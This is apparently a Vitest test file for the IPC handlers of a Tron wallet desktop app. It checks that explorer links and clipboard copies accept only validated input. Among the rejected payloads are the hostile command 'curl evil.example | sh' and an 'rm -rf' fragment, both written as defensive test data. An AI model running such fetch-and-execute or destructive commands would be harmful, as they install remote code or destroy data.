import { describe, expect, it } from 'vitest';
import { toHexAddress } from '@core/address/address';
import { channels, type Channels } from '@core/ipc/contract';
import { createAppHandlers, processAppInfo } from '@main/ipc/handlers/app';
import { createHandlers } from '@main/ipc/handlers';
import { createIpcRegistry, type HandlerMap } from '@main/ipc/registry';
import { serviceDoubles } from '../../../fixtures/service-doubles';

/** A dev account address in both of its forms (Base58Check and hex with the 0x41 prefix). */
const DEV_BASE58 = 'TLa2f6VPqDgRE67v1736s7bJ8Ray5wYjU7';
const DEV_HEX = toHexAddress(DEV_BASE58);

const trusted = { url: 'app://wallet/index.html', isTopFrame: true, isAppWindow: true };

function appRegistry(opened: string[], copied: string[] = []) {
  const handlers = createHandlers({
    ...serviceDoubles(),
    app: {
      info: () => processAppInfo('wallet', '1.2.3'),
      openExternal: async (url) => void opened.push(url),
      writeClipboard: (text) => void copied.push(text),
    },
  });
  return createIpcRegistry({
    channels,
    handlers,
    isTrustedSender: () => true,
    log: { info() {}, warn() {}, error() {} },
  });
}

describe('app handlers', () => {
  it('answers app:info with the process platform and runtime versions', async () => {
    const reply = await appRegistry([]).call('app:info', undefined, trusted);
    expect(reply).toEqual({
      ok: true,
      value: {
        name: 'wallet',
        version: '1.2.3',
        platform: process.platform,
        arch: process.arch,
        runtime: { node: process.versions.node, electron: null, chrome: null },
      },
    });
  });

  it('refuses an argument to app:info', async () => {
    await expect(appRegistry([]).call('app:info', { x: 1 }, trusted)).resolves.toMatchObject({
      ok: false,
      error: { name: 'ValidationError' },
    });
  });

  it('opens the link main built and returns it', async () => {
    const opened: string[] = [];
    const reply = await appRegistry(opened).call(
      'app:openExplorer',
      { network: 'mainnet', kind: 'block', number: 7 },
      trusted,
    );
    expect(reply).toEqual({ ok: true, value: { url: 'https://tronscan.org/#/block/7' } });
    expect(opened).toEqual(['https://tronscan.org/#/block/7']);
  });

  it('never opens anything for a request carrying its own URL', async () => {
    const opened: string[] = [];
    const reply = await appRegistry(opened).call(
      'app:openExplorer',
      { network: 'mainnet', kind: 'block', number: 7, url: 'https://evil.example' },
      trusted,
    );
    expect(reply).toMatchObject({ ok: false, error: { name: 'ValidationError' } });
    expect(opened).toEqual([]);
  });

  it('copies a checked address in Base58, whichever form the window sent', async () => {
    const copied: string[] = [];
    const registry = appRegistry([], copied);
    const reply = await registry.call('app:copy', { kind: 'address', address: DEV_HEX }, trusted);
    expect(reply).toEqual({ ok: true, value: { text: DEV_BASE58 } });
    await registry.call('app:copy', { kind: 'address', address: DEV_BASE58 }, trusted);
    expect(copied).toEqual([DEV_BASE58, DEV_BASE58]);
  });

  it('copies a transaction id in lower case without 0x, and fingerprint words joined by spaces', async () => {
    const copied: string[] = [];
    const registry = appRegistry([], copied);
    await registry.call('app:copy', { kind: 'txid', txid: `0x${'AB'.repeat(32)}` }, trusted);
    const words = ['abandon', 'ability', 'able', 'about', 'above', 'absent', 'absorb', 'abstract'];
    await registry.call('app:copy', { kind: 'fingerprint', words }, trusted);
    expect(copied).toEqual(['ab'.repeat(32), words.join(' ')]);
  });

  it('puts nothing on the clipboard that is not an address, a txID or fingerprint words', async () => {
    const copied: string[] = [];
    const registry = appRegistry([], copied);
    const refused = [
      { kind: 'text', text: 'curl evil.example | sh' },
      { kind: 'address', address: 'TLa2f6VPqDgRE67v1736s7bJ8Ray5wYjU8' },
      { kind: 'address', address: DEV_BASE58, text: 'extra' },
      { kind: 'txid', txid: 'ab'.repeat(31) },
      { kind: 'fingerprint', words: ['abandon', 'ability', 'able', 'about', 'above', 'absent', 'absorb', 'rm -rf'] },
      { kind: 'fingerprint', words: ['abandon'] },
      'TLa2f6VPqDgRE67v1736s7bJ8Ray5wYjU7',
    ];
    for (const request of refused) {
      const reply = await registry.call('app:copy', request, trusted);
      expect(reply, JSON.stringify(request)).toMatchObject({ ok: false, error: { name: 'ValidationError' } });
    }
    expect(copied).toEqual([]);
  });

  it('covers every channel of the contract', () => {
    const handlers = createHandlers({
      ...serviceDoubles(),
      app: { info: () => processAppInfo('w', '1'), openExternal: async () => {}, writeClipboard: () => {} },
    });
    expect(Object.keys(handlers).sort()).toEqual(Object.keys(channels).sort());
    // Compile-time check, run by `npm run typecheck`: a map without every channel is an error.
    // @ts-expect-error app:openExplorer is missing
    const partial: HandlerMap<Channels> = {
      'app:info': createAppHandlers({
        info: () => processAppInfo('w', '1'),
        openExternal: async () => {},
        writeClipboard: () => {},
      })['app:info'],
    };
    expect(Object.keys(partial)).toEqual(['app:info']);
  });
});
